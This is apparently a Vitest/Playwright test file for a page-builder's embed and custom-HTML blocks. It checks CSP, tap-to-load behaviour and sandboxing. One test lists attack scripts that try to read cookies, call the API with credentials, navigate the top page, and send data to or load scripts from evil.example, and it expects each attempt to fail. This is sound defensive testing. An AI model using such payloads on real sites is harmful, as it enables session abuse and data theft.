import { type BrowserContextOptions, chromium as playwright } from 'playwright'
import { afterAll, expect, test } from 'vitest'
import type { JsonObject } from '#contract/json.ts'
import { findChromium } from '#testing/chromium.ts'
import { createPage } from '#testing/create-page.ts'
import { requestHost } from '#testing/request-host.ts'
import { getSharedService } from '#testing/service.ts'

const service = await getSharedService()
const workspace = await service.createWorkspace('pro')
const browser = await playwright.launch(await findChromium())
afterAll(() => browser.close())

async function editPage(...blocks: { type: string; fields: JsonObject }[]) {
  const draft = await createPage(workspace)
  const page = draft.pages[0]?.id ?? ''
  return workspace.call('POST /pages/{id}/edits', {
    params: { id: draft.id },
    body: {
      revision: draft.revision,
      operations: blocks.map((block) => ({ op: 'addBlock' as const, page, ...block })),
    },
  })
}

async function publishBlocks(...blocks: { type: string; fields: JsonObject }[]) {
  const { id } = await editPage(...blocks)
  return workspace.call('POST /pages/{id}/publish', { params: { id } })
}

/** Opens a page in a browser to which every other site answers with its own address. */
async function visit(url: string, options: BrowserContextOptions = {}) {
  const context = await browser.newContext({ viewport: { width: 390, height: 844 }, ...options })
  const tab = await context.newPage()
  const [errors, foreignRequests]: [string[], string[]] = [[], []]
  tab.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
  tab.on('pageerror', (error) => errors.push(error.message))
  await context.route(/^https:/, (route) => {
    foreignRequests.push(route.request().url())
    const isScript = route.request().resourceType() === 'script'
    return route.fulfill(
      isScript
        ? { contentType: 'text/javascript', body: "document.body.append('widget loaded')" }
        : { contentType: 'text/html', body: `<title>x</title><h1>${new URL(route.request().url()).hostname}</h1>` },
    )
  })
  await tab.goto(url, { waitUntil: 'load' })
  return { tab, errors, foreignRequests }
}

const embeds = [
  ['https://youtu.be/aqz-KE-bpKQ', 'www.youtube-nocookie.com'],
  ['https://open.spotify.com/track/4cOdK2wGLETKBW3PvgPWqT', 'open.spotify.com'],
  ['https://maps.google.com/?q=52.5163,13.3777', 'www.google.com'],
  ['https://calendly.com/ada/30min', 'calendly.com'],
  ['https://x.com/NASA/status/1445361347013398533', 'platform.twitter.com'],
] as const

test('embeds request nothing of their providers before a tap, and one frame after it', async () => {
  const page = await publishBlocks(
    ...embeds.map(([address, host]) => ({ type: 'embed', fields: { address, title: host } })),
    { type: 'embed', fields: { address: 'https://example.org/menu', title: 'A link' } },
  )
  const { headers } = await requestHost(service.origin, page.url)
  const hosts = embeds.map(([, host]) => `https://${host}`)
  expect(headers['content-security-policy']).toContain(`; frame-src ${hosts.join(' ')}; `)
  const { tab, errors, foreignRequests } = await visit(page.url)
  expect(foreignRequests).toEqual([])
  for (const [index, [, host]] of embeds.entries()) {
    await tab.getByRole('link', { name: host }).click()
    const frame = tab.locator(`iframe[title="${host}"]`)
    await frame.contentFrame().getByRole('heading', { name: host }).waitFor()
    expect(foreignRequests).toHaveLength(index + 1)
    expect(await frame.getAttribute('sandbox')).toContain('allow-scripts')
    expect(await frame.evaluate((element) => element === element.ownerDocument.activeElement)).toBe(true)
  }
  expect(errors).toEqual([])
  await tab.context().close()
})

test('without script, an embed is a link to its page', async () => {
  const page = await publishBlocks({
    type: 'embed',
    fields: { address: 'https://calendly.com/ada/30min?month=2027-01' },
  })
  const { tab } = await visit(page.url, { javaScriptEnabled: false })
  await tab.getByRole('link', { name: /^Show/ }).click()
  expect(tab.url()).toBe('https://calendly.com/ada/30min')
  await tab.context().close()
})

/** Attacks that an author's HTML might try, as scripts that report their result. */
const attacks = {
  'read the origin': 'window.origin',
  'read cookies': 'document.cookie',
  'write to the storage of the page': "localStorage.setItem('a', 'b')",
  'open a database': "indexedDB.open('a') && 'opened'",
  'read the page': 'parent.document.title',
  'read the address of the page': 'parent.location.href',
  'change the page': "parent.document.body.innerHTML = ''",
  'reach the page as its own': 'frameElement',
  'navigate the page': "top.location = 'https://evil.example/'",
  'replace the page': "top.location.replace('https://evil.example/')",
  'show a dialog': "String(confirm('Password?'))",
  'call the API as the visitor': "await (await fetch(API, { credentials: 'include' })).text()",
  'read the page over HTTP': "await (await fetch('/', { credentials: 'include' })).text()",
  'send what it knows to another site': "await fetch('https://evil.example/', { mode: 'no-cors' }) && 'sent'",
  'load a script of another site': "await import('https://evil.example/x.js') && 'loaded'",
}

test('HTML of an author can do nothing to the page, nor as its visitor', async () => {
  const script = Object.entries(attacks).map(
    ([name, attempt]) =>
      `try { report(${JSON.stringify(name)}, String(${attempt})) } catch (error) { report(${JSON.stringify(name)}, error.name) }`,
  )
  const html = `<ol></ol><form action="https://evil.example/" method="post"><button>Send</button></form>
<script type="module">
const API = ${JSON.stringify(`${service.origin}/v1/me`)}
const report = (name, result) => { const item = document.createElement('li'); item.textContent = name + ': ' + result; document.querySelector('ol').append(item) }
${script.join('\n')}
report('done', '')
</script>`
  const page = await publishBlocks({ type: 'html', fields: { html, title: 'Attack', height: 700 } })
  const { tab, foreignRequests } = await visit(page.url)
  await tab.locator('iframe').scrollIntoViewIfNeeded()
  const frame = tab.locator('iframe').contentFrame()
  await frame.getByText('done:').waitFor()
  const results = Object.fromEntries(
    (await frame.getByRole('listitem').allTextContents()).map((text) => text.split(': ') as [string, string]),
  )
  expect(results).toEqual({
    'read the origin': 'null',
    'read cookies': 'SecurityError',
    'write to the storage of the page': 'SecurityError',
    'open a database': 'SecurityError',
    'read the page': 'SecurityError',
    'read the address of the page': 'SecurityError',
    'change the page': 'SecurityError',
    'reach the page as its own': 'null',
    'navigate the page': 'SecurityError',
    'replace the page': 'SecurityError',
    'show a dialog': 'false',
    'call the API as the visitor': 'TypeError',
    'read the page over HTTP': 'TypeError',
    'send what it knows to another site': 'TypeError',
    'load a script of another site': 'TypeError',
    done: '',
  })
  await frame.getByRole('button', { name: 'Send' }).click()
  expect(foreignRequests).toEqual([])
  expect(tab.url()).toBe(page.url)
  await tab.context().close()
})

test('at its own address, HTML of an author has no origin either', async () => {
  const html =
    '<p id="result"></p><script>try { result.textContent = document.cookie } catch (e) { result.textContent = e.name }</script>'
  const page = await publishBlocks({ type: 'html', fields: { html } })
  const block = page.pages[0]?.blocks.at(-1)?.id
  const { tab } = await visit(`${page.url}_/files/${block}/content.html`)
  expect(await tab.locator('#result').textContent()).toBe('SecurityError')
  expect(await tab.evaluate('window.origin')).toBe('null')
  await tab.context().close()
})

test('HTML loads from the listed addresses only, after a tap, and has a link without script', async () => {
  const html =
    '<p>Mine</p><script src="https://widget.example.org/a.js"></script><script src="https://other.example.org/b.js"></script>'
  const fields = { html, title: 'Widget', origins: ['https://widget.example.org'] }
  const page = await publishBlocks({ type: 'html', fields })
  const { tab, foreignRequests } = await visit(page.url)
  expect(foreignRequests).toEqual([])
  expect(await tab.getByText('Loaded from widget.example.org when you tap').isVisible()).toBe(true)
  await tab.getByRole('link', { name: 'Show Widget' }).click()
  await tab.locator('iframe[title=Widget]').contentFrame().getByText('widget loaded').waitFor()
  expect(foreignRequests).toEqual(['https://widget.example.org/a.js'])
  await tab.context().close()
  const { tab: plainTab } = await visit(page.url, { javaScriptEnabled: false })
  await plainTab.getByRole('link', { name: 'Show Widget' }).click()
  await plainTab.getByText('Mine').waitFor()
  await plainTab.context().close()
})

test('HTML of a draft is in its preview, which works without script', async () => {
  const draft = await editPage({ type: 'html', fields: { html: '<h1>Ferry times</h1>', title: 'Ferry' } })
  const { tab, errors } = await visit(draft.previewUrl, { javaScriptEnabled: false })
  await tab.locator('iframe[title=Ferry]').contentFrame().getByRole('heading', { name: 'Ferry times' }).waitFor()
  expect(errors).toEqual([])
  await tab.context().close()
})

test('HTML takes the plan pro, and has at most 50,000 characters', async () => {
  const add = async (plan: 'core' | 'pro', fields: JsonObject) => {
    const owner = await service.createWorkspace(plan)
    const draft = await createPage(owner)
    const page = draft.pages[0]?.id ?? ''
    const { status, body } = await owner.send('POST /pages/{id}/edits', {
      params: { id: draft.id },
      body: { revision: draft.revision, operations: [{ op: 'addBlock', page, type: 'html', fields }] },
    })
    return { status, body: JSON.stringify(body) }
  }
  expect(await add('core', {})).toMatchObject({ status: 403, body: expect.stringContaining('block_not_in_plan') })
  expect(await add('pro', { html: 'x'.repeat(50_000) })).toMatchObject({ status: 200 })
  expect(await add('pro', { html: 'x'.repeat(50_001) })).toMatchObject({ status: 400 })
})
